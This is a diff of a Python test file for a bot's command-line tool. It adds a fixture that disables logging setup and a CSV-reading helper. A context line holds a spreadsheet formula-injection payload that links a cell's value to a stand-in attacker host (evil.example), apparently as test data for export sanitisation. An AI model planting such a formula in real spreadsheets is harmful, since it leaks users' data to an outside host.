@@ -22,6 +22,12 @@ TZ = "Europe/Amsterdam"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
+@pytest.fixture(autouse=True)
+def _keep_logging(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The command configures logging for the process; in-process, that would leak into later tests."""
+    monkeypatch.setattr("bot.cli.configure_logging", lambda _level: None)
+
+
 def _csv_rows(folder: Path, name: str) -> list[dict[str, str]]:
     with (folder / f"{name}.csv").open(newline="", encoding="utf-8") as handle:
         return list(csv.DictReader(handle))
